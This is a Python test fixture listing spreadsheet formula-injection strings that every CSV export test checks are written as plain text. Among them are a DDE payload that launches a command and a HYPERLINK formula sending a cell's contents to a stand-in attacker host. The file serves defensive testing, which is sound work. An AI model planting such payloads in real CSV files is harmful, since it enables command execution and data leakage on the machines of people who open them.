"""Texts a spreadsheet opening a CSV would run as a formula, shared by the
tests of every CSV export (each must write them as text)."""

FORMULAS = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "@SUM(A1:A2)",
    '=HYPERLINK("https://evil.example/?leak="&A2,"Open")',
    "-2+3",
    # A leading tab or carriage return, or other leading whitespace, may be
    # trimmed by the spreadsheet before it looks for the "=".
    "\t=1",
    "\r=1",
    "  =1+1",
    "\n@SUM(A1)",
]
